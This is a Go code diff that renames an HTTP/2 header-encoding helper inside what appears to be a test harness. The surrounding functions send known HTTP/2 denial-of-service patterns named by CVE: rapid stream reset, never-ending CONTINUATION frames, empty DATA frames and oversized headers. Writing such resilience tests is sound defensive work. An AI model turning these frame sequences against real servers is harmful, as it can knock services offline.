@@ -214,8 +214,8 @@ func (c *frames) reserve(stream uint32, size int64) error {
 	return c.err
 }
 
-// header2 encodes the header of a POST.
-func header2(path string, length int, more ...string) []byte {
+// headerBlock encodes the header of a POST.
+func headerBlock(path string, length int, more ...string) []byte {
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
 	fields := append([]string{
@@ -245,7 +245,7 @@ func (c *frames) open(block []byte, endHeaders bool) (stream uint32, err error) 
 // body has.
 func (c *frames) request(path, body string, announced int) error {
 	complete := announced == len(body)
-	stream, err := c.open(header2(path, announced), true)
+	stream, err := c.open(headerBlock(path, announced), true)
 	for body != "" && err == nil {
 		piece := body[:min(len(body), 16<<10)]
 		body = body[len(piece):]
@@ -258,7 +258,7 @@ func (c *frames) request(path, body string, announced int) error {
 
 // rapidReset opens a stream and resets it at once (CVE-2023-44487).
 func (c *frames) rapidReset() error {
-	stream, err := c.open(header2("/mutate", 1), true)
+	stream, err := c.open(headerBlock("/mutate", 1), true)
 	if err != nil {
 		return err
 	}
@@ -267,7 +267,7 @@ func (c *frames) rapidReset() error {
 
 // continuation opens a stream with a header that never ends (CVE-2023-45288).
 func (c *frames) continuation() error {
-	stream, err := c.open(header2("/mutate", 1), false)
+	stream, err := c.open(headerBlock("/mutate", 1), false)
 	piece := bytes.Repeat([]byte{0x00, 1, 'x', 1, 'y'}, 3000) // literal fields x: y
 	for err == nil {
 		err = c.framer.WriteContinuation(stream, false, piece)
@@ -292,7 +292,7 @@ func (c *frames) settings() error {
 // emptyData opens one stream and sends frames without data on it (CVE-2019-9518).
 func (c *frames) emptyData() error {
 	if c.next == 1 {
-		if _, err := c.open(header2("/mutate", 1), true); err != nil {
+		if _, err := c.open(headerBlock("/mutate", 1), true); err != nil {
 			return err
 		}
 	}
@@ -315,6 +315,6 @@ func (c *frames) hugeHeaders() error {
 	for n := range 400 {
 		more = append(more, fmt.Sprintf("x-%d", n), strings.Repeat("y", 20))
 	}
-	_, err := c.open(header2("/mutate", 1, more...), true)
+	_, err := c.open(headerBlock("/mutate", 1, more...), true)
 	return err
 }
